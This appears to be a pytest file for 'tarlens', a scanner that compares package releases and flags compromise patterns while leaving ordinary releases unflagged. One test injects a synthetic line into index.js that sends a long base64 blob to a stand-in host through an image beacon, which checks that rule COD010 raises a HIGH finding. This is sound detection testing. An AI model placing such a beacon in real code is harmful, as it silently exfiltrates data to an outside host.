"""The catalog catches every compromise shape of INCIDENTS.md and stays quiet on ordinary
releases (synthetic reproductions in fixtures/incidents.py; the real pairs of
fixtures/ordinary.py are measured by benchmarks/catalog.py --real)."""

from __future__ import annotations

import pytest

import tarlens
from fixtures import incidents

#: shapes the catalog does not reach yet, with why (strict xfail: fixing one fails this list)
KNOWN_MISSES: dict[str, str] = {}


def worst(previous: bytes, new: bytes) -> tarlens.Severity | None:
    d = tarlens.diff(previous, new)
    report = tarlens.check(d.new, diff=d)
    assert not report.errors, report.errors
    return report.max_severity


@pytest.mark.parametrize(
    "incident",
    [
        pytest.param(i, marks=pytest.mark.xfail(reason=KNOWN_MISSES[i.name], strict=True))
        if i.name in KNOWN_MISSES
        else i
        for i in incidents.INCIDENTS
    ],
    ids=[i.name for i in incidents.INCIDENTS],
)
def test_incident_is_caught(incident: incidents.Incident) -> None:
    need = tarlens.Severity.HIGH if incident.expect_high else tarlens.Severity.MEDIUM
    got = worst(incident.previous(), incident.new())
    assert got is not None and got >= need, got


@pytest.mark.parametrize(
    "pair", incidents.ORDINARY_SYNTHETIC, ids=[p.name for p in incidents.ORDINARY_SYNTHETIC]
)
def test_ordinary_release_stays_quiet(pair: incidents.OrdinaryPair) -> None:
    got = worst(pair.previous(), pair.new())
    assert got is None or got <= tarlens.Severity.LOW, got


def test_a_long_dense_line_injected_into_a_readable_entry_point() -> None:
    import base64
    import random

    from fixtures.rule_examples import LIB, pack

    blob = base64.b64encode(random.Random(1).randbytes(3000)).decode()
    line = f"(function(){{var k='{blob}';new Image().src='//a.example/'+k}})();".encode()
    d = tarlens.diff(pack({"index.js": LIB})(), pack({"index.js": LIB + line})())
    (finding,) = tarlens.check(d.new, diff=d, select=["COD010"]).findings
    assert finding.severity is tarlens.Severity.HIGH
    assert "gains a 4" in finding.message
    # the same line among many changed lines is a rebuild, not an injection
    many = LIB + b"".join(b"const v%d = %d\n" % (i, i) for i in range(10)) + line
    d = tarlens.diff(pack({"index.js": LIB})(), pack({"index.js": many})())
    assert not [
        f
        for f in tarlens.check(d.new, diff=d, select=["COD010"]).findings
        if "-byte line" in f.message
    ]
